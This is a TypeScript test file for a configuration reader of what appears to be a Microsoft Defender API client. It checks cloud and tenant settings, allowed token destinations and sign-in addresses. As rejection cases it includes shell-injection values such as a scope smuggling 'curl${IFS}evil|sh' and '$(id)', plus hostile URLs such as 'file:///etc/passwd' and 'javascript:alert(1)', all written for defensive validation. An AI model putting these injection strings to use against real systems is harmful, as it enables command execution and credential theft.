import assert from 'node:assert/strict';
import { suite, test } from 'node:test';
import {
  apiUrlOf,
  isAllowedUrl,
  readConnection,
  sampleConnection,
  signInAddressesOf,
} from '../../../src/connections/connection.ts';
import type { Connection } from '../../../src/connections/connection.ts';

const COMMERCIAL: Connection = {
  name: 'Contoso',
  cloud: 'commercial',
  tenantId: '0b1c2d3e-4f50-4617-8829-3a4b5c6d7e8f',
  clientId: '1f2e3d4c-5b6a-4978-8695-a4b3c2d1e0f9',
  signIn: 'accessToken',
};
const CUSTOM: Connection = {
  ...COMMERCIAL,
  cloud: 'custom',
  apiUrl: 'https://proxy.example/defender',
  downloadHosts: ['blobs.example:8443'],
};

function connectionOf(value: unknown): Connection {
  const read = readConnection(value);
  assert.ok('connection' in read, JSON.stringify(read));
  return read.connection;
}

suite('reading a connection', () => {
  for (const [what, connection] of [
    ['commercial', COMMERCIAL],
    ['commercial, near a region', { ...COMMERCIAL, region: 'eu' }],
    ['GCC', { ...COMMERCIAL, cloud: 'gcc' }],
    ['GCC High', { ...COMMERCIAL, cloud: 'gccHigh' }],
    ['DoD', { ...COMMERCIAL, cloud: 'dod' }],
    ['custom', CUSTOM],
    ['custom on this machine', { ...CUSTOM, apiUrl: 'http://127.0.0.1:8080', downloadHosts: [] }],
    [
      'custom with a sign-in service of its own',
      { ...CUSTOM, authority: 'https://localhost:8443', scope: 'api://defender/.default' },
    ],
    ['a certificate', { ...COMMERCIAL, signIn: 'clientCertificate', certificatePath: '/home/ir/defender.pem' }],
    [
      'a certificate on Windows',
      { ...COMMERCIAL, signIn: 'clientCertificate', certificatePath: 'C:\\ir\\defender.pem' },
    ],
    ['the sample', sampleConnection('Sample tenant')],
  ] as const) {
    test(`${what}: what was written is read back`, () => {
      assert.deepEqual(connectionOf(JSON.parse(JSON.stringify(connection))), connection);
    });
  }

  test('the name is trimmed and ids are put into lower case', () => {
    const tenantId = COMMERCIAL.tenantId.toUpperCase();
    const clientId = COMMERCIAL.clientId.toUpperCase();
    assert.deepEqual(connectionOf({ ...COMMERCIAL, name: ' Contoso\t', tenantId, clientId }), COMMERCIAL);
  });

  test('what a connection does not have is not kept: least of all a secret', () => {
    const read = connectionOf({ ...COMMERCIAL, accessToken: 'eyJ', clientSecret: 's', __proto__: { region: 'eu' } });
    assert.deepEqual(Object.keys(read).toSorted(), Object.keys(COMMERCIAL).toSorted());
  });

  for (const [field, change] of [
    ['name', { name: undefined }],
    ['name', { name: '' }],
    ['name', { name: ' \t' }],
    ['name', { name: 'x'.repeat(81) }],
    ['name', { name: 7 }],
    ['cloud', { cloud: undefined }],
    ['cloud', { cloud: 'Commercial' }],
    ['cloud', { cloud: 'toString' }],
    ['signIn', { signIn: undefined }],
    ['signIn', { signIn: 'password' }],
    ['tenantId', { tenantId: undefined }],
    ['tenantId', { tenantId: 'contoso.onmicrosoft.com' }],
    ['tenantId', { tenantId: `{${COMMERCIAL.tenantId}}` }],
    ['clientId', { clientId: '' }],
    ['clientId', { clientId: [COMMERCIAL.clientId] }],
    ['region', { region: 'mars' }],
    ['region', { region: null }],
    ['region', { cloud: 'gcc', region: 'us' }],
    ['apiUrl', { apiUrl: 'https://api.security.microsoft.com' }],
    ['apiUrl', { cloud: 'custom' }],
    ['apiUrl', { cloud: 'custom', apiUrl: 'http://proxy.example' }],
    ['apiUrl', { cloud: 'custom', apiUrl: 'proxy.example' }],
    ['authority', { authority: 'https://login.microsoftonline.com' }],
    ['authority', { ...CUSTOM, authority: 'http://localhost:8443' }],
    ['authority', { ...CUSTOM, authority: 'https://user:secret@login.example' }],
    ['authority', { ...CUSTOM, authority: 'https://login.example/tenant' }],
    ['scope', { scope: 'https://api.securitycenter.microsoft.com/.default' }],
    ['scope', { ...CUSTOM, scope: 'Machine.LiveResponse' }],
    // The scope is part of commands that users copy into a shell.
    ['scope', { ...CUSTOM, scope: 'https://x.example;curl${IFS}evil|sh;#/.default' }],
    ['scope', { ...CUSTOM, scope: 'https://x.example/$(id)/.default' }],
    ['scope', { ...CUSTOM, scope: 'https://one.example/.default https://two.example/.default' }],
    ['certificatePath', { signIn: 'clientCertificate' }],
    ['certificatePath', { signIn: 'clientCertificate', certificatePath: 'defender.pem' }],
    ['certificatePath', { signIn: 'clientCertificate', certificatePath: '\\\\server\\share\\defender.pem' }],
    ['certificatePath', { signIn: 'clientCertificate', certificatePath: '//server/share/defender.pem' }],
    ['certificatePath', { certificatePath: '/home/ir/defender.pem' }],
    ['downloadHosts', { downloadHosts: ['blobs.example'] }],
    ['downloadHosts', { ...CUSTOM, downloadHosts: 'blobs.example' }],
    ['downloadHosts', { ...CUSTOM, downloadHosts: ['blobs.example', 1] }],
  ] as const) {
    test(`the field that is wrong is named: ${field} in ${JSON.stringify(change)}`, () => {
      assert.deepEqual(readConnection({ ...COMMERCIAL, ...change }), { problem: { field } });
    });
  }

  for (const value of [undefined, null, 'text', 7, []]) {
    test(`${JSON.stringify(value)} is no connection`, () => {
      assert.deepEqual(readConnection(value), { problem: { field: 'name' } });
    });
  }

  test('the sample never passes for a tenant of a real cloud', () => {
    assert.ok('problem' in readConnection({ ...COMMERCIAL, signIn: 'sample' }));
  });
});

suite('addresses that a token may go to', () => {
  for (const url of [
    'https://proxy.example',
    'https://proxy.example:8443/defender/',
    'http://localhost:8080',
    'http://127.0.0.1',
    'http://[::1]:9',
  ]) {
    test(`${url} is one`, () => {
      assert.equal(isAllowedUrl(url), true);
    });
  }

  for (const url of [
    'http://proxy.example',
    'http://localhost.evil.example',
    'http://127.0.0.1.evil.example',
    'http://127.0.0.1@evil.example',
    'https://user@proxy.example',
    'https://user:secret@proxy.example',
    'https://:secret@proxy.example',
    'ftp://localhost',
    'file:///etc/passwd',
    'javascript:alert(1)',
    '//proxy.example',
    'proxy.example',
    '',
    undefined,
    null,
    7,
    new URL('https://proxy.example'),
  ]) {
    test(`${String(url)} is none`, () => {
      assert.equal(isAllowedUrl(url), false);
    });
  }
});

suite('the base of the API', () => {
  test('it follows from cloud and region, or is named by a custom connection', () => {
    assert.equal(apiUrlOf(COMMERCIAL), 'https://api.security.microsoft.com');
    assert.equal(apiUrlOf({ ...COMMERCIAL, region: 'uk' }), 'https://uk.api.security.microsoft.com');
    assert.equal(apiUrlOf({ ...COMMERCIAL, cloud: 'gccHigh' }), 'https://api-gov.securitycenter.microsoft.us');
    assert.equal(apiUrlOf(CUSTOM), 'https://proxy.example/defender');
  });

  test("the sample's is a name that no resolver knows", () => {
    assert.match(apiUrlOf(sampleConnection('Sample')), /^https:\/\/[\w.]+\.invalid$/u);
  });
});

suite('where a connection signs in', () => {
  const tenant = COMMERCIAL.tenantId;
  for (const [what, connection, authority, scope] of [
    [
      'commercial',
      COMMERCIAL,
      'https://login.microsoftonline.com',
      'https://api.securitycenter.microsoft.com/.default',
    ],
    // The audience kept its old name, so it differs from the API's host.
    [
      'near a region',
      { ...COMMERCIAL, region: 'eu' },
      'https://login.microsoftonline.com',
      'https://api.securitycenter.microsoft.com/.default',
    ],
    [
      'GCC',
      { ...COMMERCIAL, cloud: 'gcc' },
      'https://login.microsoftonline.com',
      'https://api-gcc.securitycenter.microsoft.us/.default',
    ],
    [
      'GCC High',
      { ...COMMERCIAL, cloud: 'gccHigh' },
      'https://login.microsoftonline.us',
      'https://api-gov.securitycenter.microsoft.us/.default',
    ],
    [
      'DoD',
      { ...COMMERCIAL, cloud: 'dod' },
      'https://login.microsoftonline.us',
      'https://api-gov.securitycenter.microsoft.us/.default',
    ],
    ['a proxy', CUSTOM, 'https://login.microsoftonline.com', 'https://api.securitycenter.microsoft.com/.default'],
    [
      'custom',
      { ...CUSTOM, authority: 'https://localhost:8443', scope: 'api://defender/.default' },
      'https://localhost:8443',
      'api://defender/.default',
    ],
  ] as const) {
    test(what, () => {
      assert.deepEqual(signInAddressesOf(connection), { authority: `${authority}/${tenant}`, scope });
    });
  }
});
